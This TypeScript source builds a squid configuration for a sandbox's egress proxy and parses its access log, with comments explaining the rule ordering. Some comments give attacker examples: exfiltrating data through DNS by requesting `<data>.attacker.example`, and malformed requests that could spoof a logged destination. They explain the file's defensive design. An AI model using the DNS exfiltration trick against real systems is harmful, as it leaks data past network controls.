import type { EgressRule } from './egress-rules.js';
import { type CredentialTarget, credentialConfigLines, GATEWAY_HOSTS_PATH } from './gateway-credentials.js';

/** The port the gateway's proxy listens on, on the sandbox's internal network only. */
export const GATEWAY_PORT = 3128;

export interface GatewayConfigInput {
  rules: readonly EgressRule[];
  /** Address blocks refused after name resolution (see egressBlockedRanges). */
  blocked: readonly string[];
  /** Domains whose requests get a credential (the values are not part of the configuration). */
  credentials?: readonly CredentialTarget[];
  /** Whether squid reads the pinned names of setting gatewayHosts (GATEWAY_HOSTS_PATH) before DNS. */
  hostsFile?: boolean;
}

/** The ACL that matches every allowed domain by name, as asked (see renderSquidConfig). */
const ALLOWED_NAMES = 'allowed_names';

/**
 * The squid configuration of one gateway. Order matters: the user's explicit address blocks and
 * hosts first (naming an address or the repo's host is a decision), then a refusal of every name
 * that matches no allowed domain, then every blocked range (an allowed name that resolves there is
 * refused), then the allowed domains, then deny. Nothing is cached; every decision is logged to
 * stdout (`docker logs`), one line per request in the format parseGatewayLog reads.
 *
 * No name the box or an install chooses is ever looked up unless it is allowed: a `dst` ACL makes
 * squid resolve the request's name before it can match, and Docker's resolver forwards a name it
 * does not know to the host's upstream, so `GET http://<data>.attacker.example/` would carry
 * `<data>` to the attacker's DNS server even though the request is refused. Hence every ACL is
 * `-n` (no lookup: a name never matches an address rule, an address never a domain rule) but the
 * blocked ranges, which are reached by allowed names only. The hostname is fixed too: without it
 * squid looks its container's name up at start.
 */
export function renderSquidConfig(input: GatewayConfigInput): string {
  const credentials = input.credentials?.length ? credentialConfigLines(input.credentials) : undefined;
  const lines = [
    credentials ? `http_port ${GATEWAY_PORT} ${credentials.port}` : `http_port ${GATEWAY_PORT}`,
    'visible_hostname ca-sandbox-gateway',
    'pid_filename /tmp/squid.pid',
    'coredump_dir /tmp',
    'cache deny all',
    'cache_mem 8 MB',
    'memory_pools off',
    'pinger_enable off',
    'shutdown_lifetime 0 seconds',
    'connect_timeout 20 seconds',
    'via off',
    'forwarded_for delete',
    'httpd_suppress_version_string on',
    // With credentials, a last field: the domain whose credential the request got ('-': none).
    `logformat ca %ts.%03tu %>a %Ss/%03>Hs %rm %ru %<a${credentials ? ' %{credential}note' : ''}`,
    'access_log stdio:/dev/stdout ca',
    'cache_log stdio:/dev/stderr',
    ...(input.hostsFile ? [`hosts_file ${GATEWAY_HOSTS_PATH}`] : []),
    `acl blocked dst ${input.blocked.join(' ')}`,
    ...(credentials?.early ?? []),
  ];
  const allowAddresses: string[] = [];
  const allowDomains: string[] = [];
  const domainNames: string[] = [];
  input.rules.forEach((rule, index) => {
    const name = `r${index}`;
    lines.push(`acl ${name}_ports port ${rule.ports.join(' ')}`);
    if (rule.kind === 'cidr') {
      // -n: only a request that names an address in the block matches; a name is never resolved
      // to see whether it lands there.
      lines.push(`acl ${name} dst -n ${rule.cidr}`);
      allowAddresses.push(`http_access allow ${name} ${name}_ports`);
    } else {
      // -n: match the name as asked, never by a reverse lookup of an address.
      const domain = `${rule.subdomains ? '.' : ''}${rule.domain}`;
      lines.push(`acl ${name} dstdomain -n ${domain}`);
      domainNames.push(domain);
      const allow = `http_access allow ${name} ${name}_ports`;
      (rule.resolvesAnywhere ? allowAddresses : allowDomains).push(allow);
    }
  });
  // The cache manager, and TRACE to a credential domain, are refused before anything may allow them.
  lines.push(...(credentials?.refusals ?? []));
  if (domainNames.length === 0) {
    // No allowed domain: nothing but the address rules may pass, and no name is looked up.
    lines.push(...allowAddresses, 'http_access deny all');
  } else {
    // Every other name is refused before `blocked` could resolve it.
    lines.push(
      `acl ${ALLOWED_NAMES} dstdomain -n ${withoutCovered(domainNames).join(' ')}`,
      ...allowAddresses,
      `http_access deny !${ALLOWED_NAMES}`,
      'http_access deny blocked',
      ...allowDomains,
      'http_access deny all',
    );
  }
  // The values' file comes last: its lines name the ACLs above.
  lines.push(...(credentials?.last ?? []));
  return `${lines.join('\n')}\n`;
}

/**
 * squid's domain lists refuse (or warn about, by version) an entry that another one covers:
 * `example.com` twice, or beside `.example.com`. The union keeps the widest of each.
 */
function withoutCovered(domains: readonly string[]): string[] {
  const unique = [...new Set(domains)];
  const covers = (wide: string, name: string) =>
    wide !== name && wide.startsWith('.') && (name === wide.slice(1) || name.endsWith(wide));
  return unique.filter((name) => !unique.some((wide) => covers(wide, name)));
}

/** One request the gateway decided on. */
export interface GatewayLogEntry {
  time: string;
  allowed: boolean;
  /** squid's result code, e.g. TCP_TUNNEL/200 or TCP_DENIED/403. */
  result: string;
  method: string;
  /** `host:port` for CONNECT, the URL for plain HTTP. */
  destination: string;
  /** The address the gateway connected to, when it did. */
  address?: string;
  /** The domain whose credential the gateway added to this request (never the value). */
  credential?: string;
}

/**
 * squid writes `error:<reason>` where the URL goes when a connection ended before it sent a
 * request (a port probe, a client that gave up): shown as such, never as a place the box reached.
 */
function requestTarget(logged: string): string {
  return logged.startsWith('error:') ? `(no request: ${logged.slice('error:'.length)})` : logged;
}

const LOG_LINE = /^([0-9]+)\.([0-9]{3}) \S+ (\S+) (\S+) (\S+) (\S+)(?: (\S+))?$/;

/**
 * A request squid answered itself before deciding where it may go, without connecting anywhere
 * (tag NONE, a 4xx, 501 or 505: malformed, unsupported, too large). Its logged URL is the box's raw
 * text (`GET attacker.example:443` is logged as is, with 400): read as an allowed place, a box
 * could make its record show a destination the gateway never let through. A NONE 5xx other than
 * those is an allowed request that then failed (a CONNECT whose name did not resolve: 500).
 */
const REJECTED_UNDECIDED = /^NONE[A-Z_]*\/(4[0-9]{2}|501|505)$/;

/** Allowed: neither refused by a rule nor rejected by squid before any rule (see above). */
function isAllowed(result: string): boolean {
  return !/DENIED|\/403$|\/000$/.test(result) && !REJECTED_UNDECIDED.test(result);
}

/**
 * Reads the gateway's access log (its stdout). Lines that are not in our format (squid's own
 * start-up chatter goes to stderr, but be strict anyway) are ignored; the URL is box-controlled
 * text and is returned as is: callers sanitise before printing.
 */
export function parseGatewayLog(text: string): GatewayLogEntry[] {
  const out: GatewayLogEntry[] = [];
  for (const line of text.split('\n')) {
    const match = LOG_LINE.exec(line.trim());
    if (!match) continue;
    const [, seconds, millis, result, method, destination, address, credential] =
      match as unknown as string[];
    out.push({
      time: new Date(Number(seconds) * 1000 + Number(millis)).toISOString(),
      allowed: isAllowed(result as string),
      result: result as string,
      method: method as string,
      // Not a place: the box's own text, marked so that it never reads as one (nor as our notes).
      destination:
        REJECTED_UNDECIDED.test(result as string) && !destination?.startsWith('error:')
          ? `(invalid-request:${destination})`
          : requestTarget(destination as string),
      ...(address && address !== '-' ? { address } : {}),
      ...(credential && credential !== '-' ? { credential } : {}),
    });
  }
  return out;
}
